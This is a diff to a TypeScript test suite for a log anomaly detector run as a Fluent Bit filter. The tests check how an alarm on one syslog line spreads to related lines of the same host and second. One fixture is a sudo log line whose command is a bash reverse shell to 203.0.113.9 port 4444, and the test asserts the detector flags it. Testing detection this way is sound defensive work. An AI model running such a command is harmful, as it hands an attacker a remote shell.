@@ -313,7 +313,7 @@ describe("training and scoring", () => {
     expect(scored("sshd[7777]", "Accepted publickey for alice from 10.8.1.3 port 40001 ssh2", true).tarkin_anomaly).toBe(false);
   });
 
-  it("an alarm of a session's process carries to the next 4 lines of its second and host; a daemon's, or a program's of no process id, does not", () => {
+  it("an alarm of a session's process carries to the next 4 lines of its second and host; a program's of no process id to its own lines of the second, by what it holds; a daemon's to none", () => {
     const at = (time: string, host: string, process: string, text: string) => `Mar 12 ${time} ${host} ${process}: ${text}`;
     const users = ["alice", "bob", "carol"];
     const trainer = packedTarkin();
@@ -324,6 +324,7 @@ describe("training and scoring", () => {
       trainer.train(at(time, "bastion", "systemd-logind[707]", `New session ${i} of user ${user}.`));
       trainer.train(at(time, "bastion", "sudo", `   ${user} : TTY=pts/${i % 4} ; PWD=/home/${user} ; USER=root ; COMMAND=/usr/bin/apt-get update`));
       trainer.train(at(time, "bastion", "sudo", `pam_unix(sudo:session): session opened for user root by ${user}(uid=0)`));
+      trainer.train(at(time, "bastion", "kernel", `[${1000 + i}.${String(i * 7).padStart(6, "0")}] usb 1-1: new high-speed USB device number ${i % 9} using ehci-pci`));
     }
     const filter = new FluentBitFilter(packModule(coreWasm(), packContents(trainer.model(), DEFAULT_SETTINGS)));
     const scored = (line: string) => JSON.parse(filter.filter(JSON.stringify({ log: line }))!);
@@ -340,11 +341,20 @@ describe("training and scoring", () => {
     // Its next 4 lines of the second at most, whatever their fraction of it.
     scored(at("11:00:04.500", "bastion", "sshd[9997]", "Accepted password for alice from 185.220.101.247 port 37164 ssh2"));
     expect(["11:00:04.120", "11:00:04.250", "11:00:04.380", "11:00:04.510", "11:00:04.640"].map((t) => scored(logind(t)).tarkin_anomaly)).toEqual([true, true, true, true, false]);
-    // sudo logs no process id, as the kernel does (a boot writes a burst of lines a second): its alarm
-    // opens no second (and its lines, of no tag, take none).
+    // sudo logs no process id: a command nobody ran opens a second of sudo's own lines, whose next is
+    // its session (and another program's line of that second is none of it).
+    const sudoSession = "pam_unix(sudo:session): session opened for user root by alice(uid=0)";
     const shell = scored(at("11:00:05.500", "bastion", "sudo", "   alice : TTY=pts/1 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"));
     expect(shell.tarkin_surprise).toBeGreaterThanOrEqual(0.5);
+    expect(scored(at("11:00:05.500", "bastion", "sudo", sudoSession))).toMatchObject({ tarkin_anomaly: true, tarkin_reason: "sudo: in the second of an alarm on this host" });
+    expect(scored(at("11:00:05.500", "bastion", "sudo", sudoSession)).tarkin_anomaly).toBe(true);
     expect(scored(logind("11:00:05.500")).tarkin_anomaly).toBe(false);
+    expect(scored(at("11:00:05.600", "bastion", "sudo", sudoSession)).tarkin_anomaly).toBe(false); // after another line
+    // The kernel logs no process id either, and a boot writes a burst of lines a second: a line very
+    // unusual by how it is written opens no second.
+    const boot = scored(at("11:00:05.800", "bastion", "kernel", "ACPI: RSDP (v000 COMPAQ ) @ 0x000f6c60 {quirks=0x2f;mode=legacy}"));
+    expect(boot.tarkin_surprise).toBeGreaterThanOrEqual(0.5);
+    expect(scored(at("11:00:05.800", "bastion", "kernel", "[1001.000007] usb 1-1: new high-speed USB device number 1 using ehci-pci")).tarkin_anomaly).toBe(false);
     // A line of no header at all is no second's.
     scored(at("11:00:05.700", "bastion", "sshd[9996]", "Accepted password for alice from 185.220.101.248 port 37165 ssh2"));
     expect(scored("session opened for user alice").tarkin_reason).not.toMatch(/alarm/);
